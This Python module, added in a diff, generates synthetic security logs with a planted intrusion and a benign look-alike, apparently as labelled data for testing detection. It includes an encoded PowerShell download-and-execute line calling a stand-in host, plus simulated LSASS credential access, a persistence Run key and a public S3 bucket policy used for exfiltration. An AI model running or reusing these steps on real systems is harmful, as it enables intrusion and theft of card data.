@@ -1,0 +1,242 @@
+"""The planted incident and its innocent look-alike.
+
+Incident: at about a third of the span, while Boston sleeps, somebody who has Dana Whitfield's password (Finance
+Controller; never near production) tires her with Okta pushes from a hostile address: five denied, the sixth accepted.
+Ten minutes later her account reaches the PCI database server LKS-PCIDB01 (4624 type 3, then 10, from a VPN address),
+gets special privileges (4672), installs a remote administration tool as a service (7045), runs encoded PowerShell
+(4688, Sysmon 1, 4104), reads LSASS memory, talks to the hostile address (Sysmon 22 and 3) and plants a Run key
+(Sysmon 13). Then AWS calls from the hostile address: a role assumed with an odd user agent, an access key for a service
+user, a bucket policy, and a burst of GetObject.
+
+Look-alike: at about two thirds, in office hours, Marcus Oyelaran, whose job these servers are, walks the same path from
+his own home address: one push, accepted; same server, same event ids, a signed backup agent, a key rotation.
+"""
+
+from __future__ import annotations
+
+import base64
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+
+from orchestration.estate.cloudtrail import CloudTrailFeed
+from orchestration.estate.cloudtrail import SOURCE as CLOUDTRAIL
+from orchestration.estate.cloudtrail_calls import Call
+from orchestration.estate.company import HOSTILE_ADDRESS, PLACES, Company, Host, Person, Place
+from orchestration.estate.events import Event
+from orchestration.estate.okta import BY_NAME, OktaFeed
+from orchestration.estate.okta import SOURCE as OKTA
+from orchestration.estate.windows import SOURCE as WINDOWS
+from orchestration.estate.windows import WindowsFeed
+from orchestration.estate.windows_events import (
+    Draft,
+    connection,
+    logon,
+    process,
+    script,
+    service_installed,
+    special_logon,
+    sysmon,
+)
+
+_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+_DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('https://cdn-telemetry-sync.example/u')"
+_ENCODED = base64.b64encode(_DOWNLOAD.encode("utf-16-le")).decode()
+_RUN_KEY = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\"
+
+
+@dataclass(frozen=True, slots=True)
+class Planted:
+    """One event of a story: when, in which source, which step, and how to build it from (at, arrived)."""
+
+    at: float
+    source: str
+    story: str
+    step: str
+    build: Callable[[float, float], Event]
+
+    @property
+    def label(self) -> str:
+        """The ground-truth label, e.g. "incident/mfa_push_denied"."""
+        return f"{self.story}/{self.step}"
+
+
+@dataclass(frozen=True, slots=True)
+class Path:
+    """Who walks the path from sign-in to buckets, from where, with which tools."""
+
+    story: str
+    share: float  # of the span, when it begins
+    person: str
+    place: Place
+    address: str
+    client: str
+    denied: int
+    service: tuple[str, str]
+    command: str
+    script: str
+    target: tuple[str, str, int]
+    value: str
+    role: str
+    agent: str
+    objects: int
+
+
+PATHS = (
+    Path(
+        story="incident", share=0.31, person="dana.whitfield", place=PLACES["hostile"], address=HOSTILE_ADDRESS, client="KALI-7",
+        denied=5, service=("RemoteUtilsHost", "C:\\Windows\\Temp\\rutserv.exe -service"),
+        command=f"powershell.exe -NoP -W Hidden -EncodedCommand {_ENCODED}", script=_DOWNLOAD,
+        target=("cdn-telemetry-sync.example", HOSTILE_ADDRESS, 443), value="RemoteUtils", role="PciDataOperator",
+        agent="Boto3/1.9.21 Python/3.6.6 Linux/5.18.0-kali5-amd64 Botocore/1.12.21", objects=60,
+    ),
+    Path(
+        story="look_alike", share=0.64, person="marcus.oyelaran", place=PLACES["home-boston"], address="198.18.0.2", client="LKS-WS0001",
+        denied=0, service=("LarkspurBackup", "C:\\Program Files\\Larkspur\\Backup\\lkbackup.exe"),
+        command="powershell.exe -NoProfile -File C:\\Ops\\verify-backup.ps1", script="Test-LarkspurBackup -Server LKS-PCIDB01",
+        target=("lks-fs01.corp.larkspurhealth.example", "10.10.2.11", 445), value="LarkspurBackup", role="PciDatabaseAdmin",
+        agent="aws-cli/2.15.30 Python/3.11.8 Darwin/23.3.0 source/x86_64 prompt/off command/s3.cp", objects=12,
+    ),
+)  # fmt: skip
+SERVER = "LKS-PCIDB01"
+ACCOUNT = "pci"
+BUCKET = "larkspur-pci-exports"
+
+
+def plan(
+    company: Company, okta: OktaFeed, windows: WindowsFeed, aws: CloudTrailFeed, start: float, hours: int
+) -> list[Planted]:
+    """Both stories as plans, in order of time within each source."""
+    planted: list[Planted] = []
+    for path in PATHS:
+        began = float(int(start + path.share * hours * 3600))
+        person = company.person(path.person)
+        planted += _sign_in(path, person, okta, began)
+        planted += _server(path, person, company, windows, began + 210)
+        planted += _cloud(path, person, company, aws, began + 1800)
+    return planted
+
+
+def _sign_in(path: Path, person: Person, feed: OktaFeed, began: float) -> Iterator[Planted]:
+    steps: list[tuple[str, str, str]] = [("password", "user.authentication.verify", "")]
+    for _ in range(path.denied):
+        steps += [("mfa_push_sent", "system.push.send_factor_verify_push", "")]
+        steps += [("mfa_push_denied", "user.mfa.okta_verify.deny_push", "USER_REJECTED")]
+    steps += [
+        ("mfa_push_sent", "system.push.send_factor_verify_push", ""),
+        ("mfa_push_accepted", "user.authentication.auth_via_mfa", ""),
+    ]
+    steps += [("session", "user.session.start", ""), ("vpn_sign_on", "user.authentication.sso", "")]
+    for number, (step, name, failure) in enumerate(steps):
+        kind = BY_NAME[name]
+
+        def build(at: float, arrived: float, kind=kind, failure: str = failure) -> Event:  # type: ignore[no-untyped-def]
+            return feed.wrap(feed.record(kind, person, path.place, path.address, at, failure, agent=0), at, arrived)
+
+        yield Planted(began + number * 14.0, OKTA, path.story, step, build)
+
+
+def _server(path: Path, person: Person, company: Company, feed: WindowsFeed, began: float) -> Iterator[Planted]:
+    scene = feed.scene
+    server = next(host for host in company.servers if host.name == SERVER)
+    for number, (step, draft) in enumerate(_drafts(path, person, company, server, feed)):
+
+        def build(at: float, arrived: float, draft: Draft = draft) -> Event:
+            return feed.wrap(draft, at, arrived)
+
+        yield Planted(began + 600.0 + number * 37.0, WINDOWS, path.story, step, build)
+    del scene
+
+
+def _drafts(
+    path: Path, person: Person, company: Company, server: Host, feed: WindowsFeed
+) -> Iterator[tuple[str, Draft]]:
+    s, client = feed.scene, person.vpn_address
+    session, (name, address, port) = s.logon_id(), path.target
+    yield "network_logon", logon(s, server, person, "3", client, s.logon_id(), path.client)
+    yield "remote_desktop_logon", logon(s, server, person, "10", client, session, path.client)
+    yield "special_privileges", special_logon(s, server, person, session)
+    yield "service_installed", service_installed(s, server, person, *path.service)
+    audit, created = process(s, server, person, (_POWERSHELL, path.command, "C:\\Windows\\System32\\cmd.exe"), session)
+    yield "process", audit
+    yield "process", created
+    yield "script", script(s, server, path.script)
+    yield (
+        "dns_query",
+        sysmon(s, server, 22, _POWERSHELL, person, QueryName=name, QueryStatus="0", QueryResults=f"::ffff:{address};"),
+    )
+    yield "connection", connection(s, server, person, _POWERSHELL, address, port, name)
+    if path.story == "incident":
+        lsass = {
+            "TargetImage": "C:\\Windows\\System32\\lsass.exe",
+            "GrantedAccess": "0x1010",
+            "SourceImage": _POWERSHELL,
+        }
+        ids = {
+            "SourceProcessGUID": s.guid(server),
+            "TargetProcessGUID": s.guid(server),
+            "SourceProcessId": "4712",
+            "TargetProcessId": "696",
+        }
+        yield "credential_access", Draft(server, "Microsoft-Windows-Sysmon/Operational", 10, ids | lsass)
+    value = {"EventType": "SetValue", "TargetObject": _RUN_KEY + path.value, "Details": path.service[1]}
+    yield "run_key", sysmon(s, server, 13, _POWERSHELL, person, **value)
+
+
+def _cloud(path: Path, person: Person, company: Company, feed: CloudTrailFeed, began: float) -> Iterator[Planted]:
+    account = company.accounts[ACCOUNT]
+    role = f"arn:aws:iam::{account}:role/{path.role}"
+    access_key = {
+        "accessKey": {
+            "accessKeyId": "AKIA" + path.value.upper().ljust(16, "7")[:16],
+            "status": "Active",
+            "userName": "svc-backup",
+        }
+    }
+    principal = "*" if path.story == "incident" else f"arn:aws:iam::{account}:root"
+    statement = {
+        "Effect": "Allow",
+        "Principal": principal,
+        "Action": "s3:GetObject",
+        "Resource": f"arn:aws:s3:::{BUCKET}/*",
+    }
+    policy = {"bucketName": BUCKET, "bucketPolicy": {"Version": "2012-10-17", "Statement": [statement]}}
+    assume = {"roleArn": role, "roleSessionName": person.email, "durationSeconds": 3600}
+    steps: list[tuple[str, Call]] = [
+        ("assume_role", Call("sts.amazonaws.com", "AssumeRole", True, False, lambda _: assume, None, "AWS::IAM::Role")),
+        ("create_access_key", Call("iam.amazonaws.com", "CreateAccessKey", False, False, lambda _: {"userName": "svc-backup"}, lambda _: access_key)),
+        ("put_bucket_policy", Call("s3.amazonaws.com", "PutBucketPolicy", False, False, lambda _: policy, None, "AWS::S3::Bucket")),
+    ]  # fmt: skip
+    for number in range(path.objects):
+        what = {"bucketName": BUCKET, "key": f"cards/2026/02/part-{number:04d}.parquet"}
+        steps.append(
+            (
+                "get_object",
+                Call("s3.amazonaws.com", "GetObject", True, True, lambda _, w=what: w, None, "AWS::S3::Object"),
+            )
+        )
+    for number, (step, call) in enumerate(steps):
+        yield Planted(
+            began + min(number, 3) * 61.0 + number * 2.5,
+            CLOUDTRAIL,
+            path.story,
+            step,
+            _calling(call, path, person, account, feed),
+        )
+
+
+def _calling(
+    call: Call, path: Path, person: Person, account: str, feed: CloudTrailFeed
+) -> Callable[[float, float], Event]:
+    def build(at: float, arrived: float) -> Event:
+        origin = (
+            "AWSReservedSSO_FinanceReadOnly_7d1f2a90c4b35e68"
+            if path.story == "incident"
+            else "AWSReservedSSO_Database_7d1f2a90c4b35e68"
+        )
+        identity = feed.assumed_role(
+            origin if call.name == "AssumeRole" else path.role, person.email, account, at, mfa=True
+        )
+        record = feed.record(call, identity, account, "us-east-1", at, path.address, path.agent)
+        return feed.wrap(record, at, arrived)
+
+    return build
